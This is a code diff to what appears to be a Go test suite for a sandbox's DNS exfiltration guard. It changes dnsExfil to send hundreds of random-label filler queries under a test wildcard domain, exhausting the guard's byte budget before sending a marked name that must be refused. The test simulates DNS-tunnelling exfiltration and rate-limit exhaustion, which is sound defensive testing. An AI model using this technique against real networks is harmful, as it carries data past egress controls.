@@ -2,6 +2,7 @@ package main
 
 import (
 	"crypto/rand"
+	"fmt"
 	"strings"
 	"time"
 
@@ -35,7 +36,7 @@ func dnsQuery(network, server, name string, qtype uint16) vectorFunc {
 
 // exfilName is a long name of random labels under an allowed wildcard:
 // the leading labels could carry data to the wildcard's authority.
-func exfilName(vector string) string {
+func exfilName(prefix, suffix string) string {
 	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
 	b := make([]byte, 3*63)
 	_, _ = rand.Read(b)
@@ -47,12 +48,43 @@ func exfilName(vector string) string {
 		}
 		labels = append(labels, string(l))
 	}
-	// The marker goes first so the test finds the query in the world's log.
-	return marker(vector) + "." + strings.Join(labels, ".") + ".wild.test"
+	return prefix + "." + strings.Join(labels, ".") + "." + suffix
 }
 
+// exfilBudgetNames bounds the filler names dnsExfil sends: 400 names of
+// ~200 bytes are 80 KB, twenty times the guard's default budget.
+const exfilBudgetNames = 400
+
+// dnsExfil tries to carry data out in names under an allowed wildcard
+// (*.exfil.test, which nothing else uses). The exfiltration guard admits
+// a bounded budget of new name bytes per rule per minute, so the attacker
+// first spends it with filler names (no marker: they may reach the
+// world's resolver, as the budget allows), then sends the marked name,
+// which must be refused and audited (exfil_budget) and never reach the
+// world. No refusal within exfilBudgetNames names is an escape: the
+// channel is unbounded.
 func dnsExfil(r *Result) {
-	dnsQuery("udp", worldV4+":53", exfilName(r.Vector), dns.TypeA)(r)
+	c := &dns.Client{Net: "udp", Timeout: 2 * time.Second}
+	answered := 0
+	for i := 0; ; i++ {
+		if i == exfilBudgetNames {
+			r.escape("no refusal after %d names (%d answered): the wildcard carries data without bound", i, answered)
+			return
+		}
+		m := new(dns.Msg)
+		m.SetQuestion(dns.Fqdn(exfilName(fmt.Sprintf("fill%d", i), "exfil.test")), dns.TypeA)
+		resp, _, err := c.Exchange(m, worldV4+":53")
+		if err != nil {
+			r.note("filler %d: %v", i, err)
+			continue
+		}
+		if resp.Rcode == dns.RcodeRefused {
+			r.note("budget spent after %d names answered", answered)
+			break
+		}
+		answered++
+	}
+	dnsQuery("udp", worldV4+":53", exfilName(marker(r.Vector), "exfil.test"), dns.TypeA)(r)
 }
 
 // controlDNS: the legitimate path must work, or the suite proves nothing.
